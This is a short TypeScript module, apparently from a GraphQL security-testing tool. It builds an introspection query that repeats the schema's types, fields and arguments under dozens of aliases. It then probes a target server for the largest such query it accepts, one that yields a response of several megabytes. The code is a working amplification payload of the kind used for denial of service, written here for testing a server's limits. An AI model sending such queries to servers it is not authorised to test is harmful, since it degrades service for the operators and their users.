import { someAddress } from './ask.js';
import type { AttackedServer } from './attacked-server.js';

const types = 'types { name description fields { name description args { name description } } }';
const aliases = (count: number): string =>
  Array.from({ length: count }, (_, number) => `a${number}: ${types}`).join(' ');

/** A short query with an answer of some MB: the largest of its kind that the server allows. */
export async function largeQuery(server: AttackedServer): Promise<string> {
  for (const count of [38, 28, 18, 12, 6, 3]) {
    const body = JSON.stringify({ query: `{ __schema { ${aliases(count)} } }` });
    const { codes } = await server.ask(body, { from: someAddress() });
    if (codes.length === 0) return body;
  }
  throw new Error('no large answer is let through');
}
